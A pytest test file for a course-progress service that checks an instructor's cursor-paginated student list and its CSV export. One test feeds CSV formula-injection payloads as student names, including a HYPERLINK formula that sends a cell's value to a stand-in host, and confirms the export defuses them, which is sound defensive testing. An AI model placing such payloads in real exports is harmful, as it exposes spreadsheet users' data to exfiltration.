"""The instructor's student list by cursor, filtered and sorted, and its CSV export (contract
section 15): HTTP in, compared with an oracle over the stored records."""
import csv
import io
import json
import random
from datetime import datetime, timezone

import pytest
from bson import ObjectId

from progress_service.progress import figures, mount_of, roster, upkeep
from progress_service.progress.present import iso_time

from .figures_oracle import first_flags, percentage
from .support import BOTH, PREFIX, WIRE, Api, make_token, utc_ms

SORTS = ("createdAt", "lastAccessed", "percentage")
STATUSES = (None, "not_started", "in_progress", "completed")


def get(client, user_id, path, **params):
    """GET under the prefix as `user_id`, with query parameters (None left out)."""
    return client.get(f"{PREFIX}{path}", query_string={k: v for k, v in params.items() if v is not None},
                      headers={"Authorization": f"Bearer {make_token(user_id)}"})


def expected_rows(db, course_id):
    """Every record of the course as the list must show it, computed from the records."""
    lectures = list(dict.fromkeys(db.courses.find_one({"_id": course_id})["lectures"]))
    rows = []
    for raw in db.courseprogresses.find({"course": course_id}):
        flags = first_flags(raw.get("lectureProgress"))
        done = sum(1 for lecture in lectures if flags.get(lecture))
        value = percentage(done, len(lectures))
        status = "not_started" if done == 0 else "completed" if done == len(lectures) else "in_progress"
        rows.append({"_id": raw["_id"], "user": str(raw["user"]), "done": done, "percentage": value,
                     "status": status, "createdAt": raw["createdAt"], "lastAccessed": raw["lastAccessed"]})
    return rows


def ordered(rows, sort, order, status):
    """The oracle's list: filtered, sorted by (field, _id) in the order asked."""
    field = {"percentage": "done"}.get(sort, sort)
    chosen = [row for row in rows if status is None or row["status"] == status]
    return sorted(chosen, key=lambda row: (row[field], row["_id"]), reverse=order == "desc")


def walk(client, teacher, course, limit, between=lambda: None, **params):
    """Every page by cursor: (users in order, pages)."""
    users, pages, after = [], [], None
    while True:
        response = get(client, teacher, f"/{course}/students", limit=limit, after=after, **params)
        assert response.status_code == 200, response.get_json()
        page = response.json["data"]
        pages.append(page)
        users += [item["user"]["_id"] for item in page["items"]]
        after = page["next"]
        if after is None:
            return users, pages
        between()


@pytest.fixture
def course_of_students(client, lms):
    """A course of 5 lectures with 37 students at every stage, written through the API."""
    teacher = lms.user(role="instructor")
    course, lectures = lms.course(5, instructor=teacher)
    rng = random.Random(37)
    apis = [Api(client, lms.user(name=f"Student {n}")) for n in range(37)]
    for api in apis:
        picked = rng.sample(lectures, rng.choice((0, 1, 2, 4, 5)))
        body = {"lectures": [{"lecture": str(lecture), "isCompleted": True} for lecture in picked]
                or [{"lecture": str(lectures[0]), "isCompleted": False}]}
        assert api.client.patch(f"{PREFIX}/{course}/lectures", json=body,
                                headers={"Authorization": f"Bearer {api.token}"}).status_code == 200
    return teacher, course, lectures, apis


@BOTH
def test_cursor_pages_see_every_record_once_in_order_while_students_arrive(client, lms, course_of_students):
    """Pages of 6 by cursor, a new student's first write between pages: each record once, in
    (createdAt, _id) order, the newcomers at the end; `next` null on the last page."""
    teacher, course, lectures, _apis = course_of_students
    summary = get(client, teacher, f"/{course}/summary")  # the figures exist before the walk
    assert summary.status_code == 200

    def newcomer():
        Api(client, lms.user()).patch(course, lectures[1], {"isCompleted": True})

    users, pages = walk(client, teacher, course, 6, newcomer)
    expected = [row["user"] for row in ordered(expected_rows(lms.db, course), "createdAt", "asc", None)]
    assert users == expected and len(users) == len(set(users)) > 37
    assert pages[-1]["next"] is None and all(page["next"] for page in pages[:-1])
    assert all(page["page"] is None for page in pages[1:]) and pages[0]["page"] == 1


@BOTH
@pytest.mark.parametrize("sort", SORTS)
@pytest.mark.parametrize("status", STATUSES)
def test_filters_and_sorts_match_the_oracle(client, lms, course_of_students, sort, status):
    """Each sort, both orders, each status: by cursor and by page the same list as the
    oracle's; `total` counts the students of that status; the items show the rule's figures."""
    teacher, course, _lectures, _apis = course_of_students
    rows = expected_rows(lms.db, course)
    for order in ("asc", "desc"):
        expected = ordered(rows, sort, order, status)
        users, pages = walk(client, teacher, course, 4, sort=sort, order=order, status=status)
        assert users == [row["user"] for row in expected], order
        assert {page["total"] for page in pages} == {len(expected)}
        by_page = []
        for number in range(1, len(expected) // 4 + 2):
            by_page += get(client, teacher, f"/{course}/students", limit=4, page=number, sort=sort, order=order,
                           status=status).json["data"]["items"]
        assert [item["user"]["_id"] for item in by_page] == users
        for item, row in zip(by_page, expected):
            assert item["completionPercentage"] == row["percentage"]
            assert item["isCompleted"] is (row["status"] == "completed")
            assert item["lastAccessed"] == iso_time(row["lastAccessed"])


@BOTH
@pytest.mark.parametrize("params,field", [
    ({"sort": "name"}, "sort"), ({"order": "up"}, "order"), ({"status": "done"}, "status"),
    ({"after": "not-a-cursor"}, "after"), ({"after": "A" * 400}, "after"), ({"limit": "0"}, "limit"),
])
def test_bad_list_parameters_are_400_naming_them(client, lms, params, field):
    """Each invalid parameter: 400, the JSON envelope, naming it."""
    teacher = lms.user(role="instructor")
    course, _ = lms.course(1, instructor=teacher)
    response = get(client, teacher, f"/{course}/students", **params)
    assert response.status_code == 400 and response.json["status"] == "fail"
    assert list(response.json["errors"]) == [field]


@BOTH
def test_a_cursor_continues_only_its_own_list(client, lms, course_of_students):
    """`after` with `page`, or with another sort, order or status, is a 400 naming `after`."""
    teacher, course, _lectures, _apis = course_of_students
    after = get(client, teacher, f"/{course}/students", limit=3, sort="percentage").json["data"]["next"]
    for params in ({"sort": "percentage", "page": 2}, {}, {"sort": "percentage", "order": "desc"},
                   {"sort": "percentage", "status": "completed"}):
        response = get(client, teacher, f"/{course}/students", after=after, **params)
        assert response.status_code == 400 and list(response.json["errors"]) == ["after"], params
    assert get(client, teacher, f"/{course}/students", after=after, sort="percentage").status_code == 200


@WIRE
@pytest.mark.parametrize("sort", SORTS)
@pytest.mark.parametrize("status", [None, "in_progress"])
def test_each_sort_and_filter_is_served_by_an_index(app, client, lms, course_of_students, sort, status):
    """explain() of the queries the list runs, first page and after a cursor: IXSCAN on an
    index of the record documents led by the course's key, never a COLLSCAN, and only this
    course's keys examined."""
    teacher, course, _lectures, apis = course_of_students
    other, others = lms.course(1, instructor=teacher)
    for api in apis[:20]:  # another course's record documents, which no query may examine
        api.patch(other, others[0], {"isCompleted": True})
    get(client, teacher, f"/{other}/summary")
    mount = mount_of(app)
    kept = upkeep.current(mount, mount.catalog.course(course), exact=True)
    collection = mount.figures.collection()
    explained = []
    real_find = collection.find

    class Explaining:
        """The collection, its finds explained as the list runs them."""

        def find(self, *args, **kwargs):
            cursor = real_find(*args, **kwargs)
            explained.append(cursor)
            return cursor

    first = roster.ListQuery(limit=5, sort=sort, status=status)
    base = roster._filter(kept.key, first, len(kept.lectures))
    documents = roster._documents(Explaining(), base, first, 6)
    after = {"sort": sort, "order": "asc", "status": status, "value": documents[-1][roster.SORT_FIELDS[sort]],
             "id": documents[-1]["_id"]}
    roster._documents(Explaining(), base, roster.ListQuery(limit=5, after=after, sort=sort, status=status), 6)
    assert len(explained) >= 2
    students = collection.count_documents({"k": kept.key})
    for cursor in explained:
        plan = cursor.explain()
        text = json.dumps(plan["queryPlanner"]["winningPlan"], default=str)
        assert '"IXSCAN"' in text and '"COLLSCAN"' not in text and '"k"' in text, text
        assert plan["executionStats"]["totalKeysExamined"] <= students


# --- the CSV export -------------------------------------------------------------------------

def csv_rows(response):
    """The CSV body as lists of cells."""
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@BOTH
def test_the_csv_has_a_row_per_student_and_a_column_per_current_lecture(client, lms):
    """Header: the fixed columns, then each current lecture by title (or id without one);
    rows in list order with the rule's figures and each lecture's flag; streamed."""
    teacher = lms.user(role="instructor")
    course, lectures = lms.course(3, instructor=teacher)
    untitled = ObjectId()
    lms.db.lectures.insert_one({"_id": untitled})
    lms.set_lectures(course, [lectures[2], lectures[0], untitled])
    ada, bob = lms.user(name="Ada"), lms.user(name="Bob")
    Api(client, ada).patch(course, lectures[0], {"isCompleted": True})
    Api(client, bob).patch(course, untitled, {"isCompleted": False})
    Api(client, bob).complete(course)
    lms.db.users.delete_one({"_id": bob})  # a student no longer in `users`: id only
    response = get(client, teacher, f"/{course}/students.csv")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="students-{course}.csv"'
    rows = csv_rows(response)
    assert rows[0] == ["user", "name", "email", "completionPercentage", "isCompleted", "completedAt",
                       "lastAccessed", "Lecture 3", "Lecture 1", str(untitled)]
    stored = {raw["user"]: raw for raw in lms.db.courseprogresses.find({"course": course})}
    assert rows[1] == [str(ada), "Ada", f"{ada}@example.com", "33", "false", "",
                       iso_time(stored[ada]["lastAccessed"]), "false", "true", "false"]
    assert rows[2] == [str(bob), "", "", "100", "true", iso_time(stored[bob]["completedAt"]),
                       iso_time(stored[bob]["lastAccessed"]), "true", "true", "true"]
    assert len(rows) == 3


@BOTH
def test_the_csv_defuses_formulas_in_names_and_titles(client, lms):
    """A cell starting with = + - @ (or a tab or CR) is prefixed with an apostrophe."""
    teacher = lms.user(role="instructor")
    course, lectures = lms.course(1, instructor=teacher)
    lms.db.lectures.update_one({"_id": lectures[0]}, {"$set": {"title": "@SUM(A1)"}})
    names = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2", "@cmd", "\tTab", "Plain, with comma"]
    for name in names:
        Api(client, lms.user(name=name)).patch(course, lectures[0], {"isCompleted": True})
    rows = csv_rows(get(client, teacher, f"/{course}/students.csv"))
    assert rows[0][-1] == "'@SUM(A1)"
    assert [row[1] for row in rows[1:]] == ["'" + name for name in names[:-1]] + [names[-1]]


@BOTH
def test_csv_errors_come_before_the_first_byte_as_json(client, lms):
    """401, 400, 404 and 403 are the JSON envelope, as for the list."""
    teacher = lms.user(role="instructor")
    course, _ = lms.course(1, instructor=teacher)
    assert client.get(f"{PREFIX}/{course}/students.csv").json["status"] == "fail"
    for caller, path, status in ((teacher, "/nope/students.csv", 400), (teacher, f"/{ObjectId()}/students.csv", 404),
                                 (lms.user(), f"/{course}/students.csv", 403)):
        response = get(client, caller, path)
        assert response.status_code == status and response.mimetype == "application/json"
        assert response.json["status"] == "fail"


@BOTH
def test_the_csv_is_read_in_batches(client, lms, app, monkeypatch):
    """The export reads the record documents and their users batch by batch (constant memory)."""
    monkeypatch.setattr(roster, "EXPORT_BATCH", 4)
    teacher = lms.user(role="instructor")
    course, lectures = lms.course(1, instructor=teacher)
    for _ in range(10):
        Api(client, lms.user()).patch(course, lectures[0], {"isCompleted": True})
    asked = []
    catalog = mount_of(app).catalog
    real_users = catalog.users
    monkeypatch.setattr(catalog, "users", lambda ids: asked.append(len(ids)) or real_users(ids), raising=False)
    response = get(client, teacher, f"/{course}/students.csv")
    chunks = [chunk.decode() if isinstance(chunk, bytes) else chunk for chunk in response.response]
    assert asked == [4, 4, 2] and len(chunks) == 4  # the header, then one chunk per batch
    assert len(list(csv.reader(io.StringIO("".join(chunks))))) == 11
